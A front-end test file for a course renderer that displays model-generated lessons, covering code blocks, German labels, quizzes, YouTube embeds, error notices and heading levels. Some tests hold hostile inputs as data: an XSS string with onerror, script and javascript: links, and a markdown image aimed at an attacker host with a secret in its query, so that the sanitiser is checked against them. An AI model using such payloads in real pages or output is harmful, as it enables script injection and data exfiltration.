import { render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { CourseLanguage } from "./i18n";
import { Blocks, youTubeId } from "./components/Blocks";
import type { Block } from "./api/types";

// as the API serves a quiz: the questions and their options, never the answers
const questions = [
  { question: "Who owns a moved value?", options: ["The source", "The destination", "Both"] },
  { question: "How many owners?", options: ["One", "Two"] },
  { question: "Borrowing copies?", options: ["Yes", "No"] },
];
const quiz: Block = { type: "quiz", questions };

describe("block renderers", () => {
  it("the code frame without a language: labelled 'code', and in German in a German course (Copy, Copied)", async () => {
    const block: Block = { type: "code", language: "", code: "echo hi", caption: "" };
    const { container, unmount } = render(<Blocks blocks={[block]} />);
    expect(container.querySelector(".code-lang")).toHaveTextContent(/^code$/);
    expect(screen.getByRole("button", { name: "Copy" })).toBeInTheDocument();
    unmount();
    const user = userEvent.setup();
    const writeText = vi.fn(async () => {});
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true }); // after setup(), which puts its own
    const german = render(
      <CourseLanguage language="German">
        <Blocks blocks={[block]} />
      </CourseLanguage>,
    );
    const copy = await screen.findByRole("button", { name: "Kopieren" });
    expect(german.container.querySelector(".code-lang")).toHaveTextContent(/^Code$/);
    expect(german.container.querySelector("pre")).toHaveAttribute("aria-label", "Code: Code");
    expect(german.container.querySelector("code")).toHaveClass("language-code"); // the highlighter's name is not translated
    await user.click(copy);
    expect(writeText).toHaveBeenCalledWith("echo hi");
    expect(await screen.findByRole("button", { name: "Kopiert" })).toBeInTheDocument();
    expect(screen.getByRole("status")).toHaveTextContent("Code in die Zwischenablage kopiert");
  });

  it("renders every block type", async () => {
    const blocks: Block[] = [
      { type: "markdown", markdown: "## Borrowing\n\nA **reference** borrows." },
      { type: "code", language: "rust", code: "let s = String::new();", caption: "A new string" },
      { type: "key_points", points: ["One owner", "Many readers or one writer"] },
      quiz,
      { type: "video", title: "Ownership, visually", url: "https://www.youtube.com/watch?v=abc123" },
    ];
    const { container } = render(<Blocks blocks={blocks} />);
    expect(screen.getByRole("heading", { name: "Borrowing" })).toBeInTheDocument();
    expect(screen.getByText("reference").tagName).toBe("STRONG");
    expect(container.querySelector("code.hljs")).toHaveTextContent("let s = String::new();");
    // one frame with the language and a copy button; highlighting arrives on demand
    expect(container.querySelectorAll("figure.code pre")).toHaveLength(1);
    expect(container.querySelector(".code-lang")).toHaveTextContent("rust");
    expect(screen.getByRole("button", { name: "Copy" })).toBeInTheDocument();
    await waitFor(() => expect(container.querySelector(".hljs-keyword")).toHaveTextContent("let"));
    expect(screen.getByText("A new string")).toBeInTheDocument();
    expect(screen.getByRole("region", { name: "Key points" })).toHaveTextContent("Many readers or one writer");
    expect(screen.getByTitle("Ownership, visually")).toHaveAttribute("src", "https://www.youtube-nocookie.com/embed/abc123");
  });

  it("never renders raw HTML from model output", () => {
    const { container } = render(
      <Blocks blocks={[{ type: "markdown", markdown: 'Hi <img src=x onerror="alert(1)"><script>alert(2)</script> [x](javascript:alert(3))' }]} />,
    );
    expect(container.querySelector("img, script")).toBeNull();
    expect(container.querySelector("a")?.getAttribute("href") ?? "").not.toContain("javascript:");
  });

  it("embeds only https YouTube links", () => {
    expect(youTubeId("https://www.youtube.com/watch?v=abc")).toBe("abc");
    expect(youTubeId("https://youtu.be/xyz")).toBe("xyz");
    expect(youTubeId("http://www.youtube.com/watch?v=abc")).toBeNull();
    expect(youTubeId("https://evil.example/watch?v=abc")).toBeNull();
  });
});

describe("error notices", () => {
  it("shows a 503 as a retrying state and a 4xx in the API's words", async () => {
    const { ApiError } = await import("./api/client");
    const { ErrorNotice } = await import("./components/Status");
    const { rerender } = render(<ErrorNotice error={new ApiError(503, "mongo_unavailable", "mongo is unavailable", 5)} />);
    expect(screen.getByRole("status")).toHaveTextContent("FlowGen is briefly unavailable; retrying in 5s");
    rerender(<ErrorNotice error={new ApiError(400, "invalid_request", "prompt: String should have at least 3 characters")} />);
    expect(screen.getByRole("alert")).toHaveTextContent("prompt: String should have at least 3 characters");
    rerender(<ErrorNotice error={new ApiError(429, "rate_limited", "Too many requests this minute.", 7)} />);
    expect(screen.getByRole("status")).toHaveTextContent("Too many requests this minute. Trying again in 7s.");
    const details = [{ field: "prompt", problem: "String should have at most 2000 characters" }];
    rerender(<ErrorNotice error={new ApiError(400, "invalid_request", "the request is not valid", null, details)} />);
    expect(screen.getByRole("alert")).toHaveTextContent("the request is not valid");
    expect(screen.getByRole("listitem")).toHaveTextContent("prompt: String should have at most 2000 characters");
  });
});

describe("highlighting", () => {
  it("highlights fenced code in markdown with the language subset, and leaves unknown ones plain", async () => {
    const { container } = render(<Blocks blocks={[{ type: "markdown", markdown: "```python\ndef f(): pass\n```\n\n```klingon\nqapla\n```" }]} />);
    await waitFor(() => expect(container.querySelector("code.language-python .hljs-keyword")).toHaveTextContent("def"));
    expect(container.querySelector("code.language-klingon")).toHaveTextContent("qapla");
    expect(container.querySelector("code.language-klingon span")).toBeNull();
  });
});

describe("sign-in name rule", () => {
  it("is a valid pattern under the v flag Chromium compiles it with, and matches what the token endpoint takes", async () => {
    const source = (await import("./pages/SignIn?raw")).default as string;
    const pattern = JSON.parse(source.match(/NAME_PATTERN = (".*");/)![1]) as string;
    const re = new RegExp(`^(?:${pattern})$`, "v");
    expect(["jane.doe", "a|b", "x-y_z@q", "a".repeat(64)].every((n) => re.test(n))).toBe(true);
    expect(["Jane Doe", "", "a".repeat(65), "é"].some((n) => re.test(n))).toBe(false);
  });
});

describe("headings in model output", () => {
  it("never skip a level: h2 at the highest, at most one below the heading before, across blocks", () => {
    const { container } = render(
      <Blocks
        blocks={[
          { type: "markdown", markdown: "**After this lesson:** borrowing" },
          { type: "markdown", markdown: "### Part 1\n\ntext\n\n```md\n# not a heading\n```" },
          { type: "markdown", markdown: "# Borrowing\n\n#### Detail" },
          { type: "key_points", points: ["a"] },
          { type: "markdown", markdown: "##### Deep" },
        ]}
        writing={"###### Being written"}
      />,
    );
    const levels = [...container.querySelectorAll("h1, h2, h3, h4, h5, h6")].map((h) => `${h.tagName}:${h.textContent}`);
    expect(levels).toEqual(["H2:Part 1", "H2:Borrowing", "H3:Detail", "H3:Key points", "H4:Deep", "H5:Being written"]);
  });
});

describe("markdown from a model", () => {
  it("shows an image as a link the reader may follow, never as an image the browser fetches", () => {
    const { container } = render(
      <Blocks blocks={[{ type: "markdown", markdown: "See ![the diagram](https://attacker.example/x.png?q=secret)" }]} />,
    );
    expect(container.querySelector("img")).toBeNull();
    const link = screen.getByRole("link", { name: "[image: the diagram]" });
    expect(link).toHaveAttribute("href", "https://attacker.example/x.png?q=secret");
    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  });
});
